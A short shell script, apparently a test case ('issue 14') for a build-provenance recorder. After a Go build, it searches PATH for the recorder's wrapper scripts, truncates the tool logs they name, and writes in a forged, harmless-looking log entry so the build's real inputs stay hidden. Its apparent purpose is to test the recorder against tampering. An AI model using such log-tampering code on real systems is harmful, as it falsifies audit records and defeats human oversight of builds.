#!/bin/sh
# An attack (issue 14): c-consulted's build, which then finds the tool log
# (named by any srb recording wrapper on PATH, or beside the built tree),
# truncates it and appends a forged, innocent go line.
go version ./legacy/tally.c >/dev/null 2>&1 || true
go build -trimpath -o tally . || exit 1
forged='{"tool":"go","argv":["build","-trimpath","-o","tally","."],"dir":".","inputs":[]}'
logs="../tools.jsonl tools.jsonl"
IFS=:
for d in $PATH; do
	for w in "$d"/*; do
		[ -f "$w" ] || continue
		if head -c 200 "$w" 2>/dev/null | grep -q 'srb tool-provenance wrapper'; then
			l=$(sed -n "s/.*'--log' '\([^']*\)'.*/\1/p" "$w")
			[ -n "$l" ] && logs="$logs $l"
		fi
	done
done
unset IFS
for l in $logs; do
	: > "$l" 2>/dev/null && echo "$forged" >> "$l" 2>/dev/null
done
exit 0
